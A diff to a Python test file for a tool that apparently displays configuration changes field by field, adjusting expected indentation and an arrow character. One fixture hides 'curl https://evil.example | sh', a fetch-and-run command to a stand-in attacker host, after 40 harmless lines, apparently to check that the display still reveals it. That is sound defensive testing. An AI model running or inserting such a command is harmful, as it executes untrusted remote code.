@@ -51,8 +51,8 @@ def test_a_new_step_is_shown_field_by_field() -> None:
     step: Any = {"command": "\n".join(["echo a"] * 40 + ["curl https://evil.example | sh"]), "imageId": 1}
     for before, after, sign in ((ABSENT, step, "+"), (step, ABSENT, "-")):
         shown = _shown(before, after, ("steps", "two"))
-        assert (sign, "  curl https://evil.example | sh") in shown
-        assert (sign, "imageId: 1") in shown
+        assert (sign, "    curl https://evil.example | sh") in shown
+        assert (sign, "  imageId: 1") in shown
 
 
 def test_what_is_left_out_is_counted_and_harmless() -> None:
@@ -92,7 +92,7 @@ def _is_json(*texts: str) -> bool:
 
 def test_short_texts_are_shown_whole() -> None:
     """Short texts are shown as they are."""
-    assert _shown("a", "b", ("name",)) == [("!", 'name: "a" -> "b"')]
+    assert _shown("a", "b", ("name",)) == [("!", 'name: "a" → "b"')]
 
 
 def test_a_target_that_nothing_has() -> None:
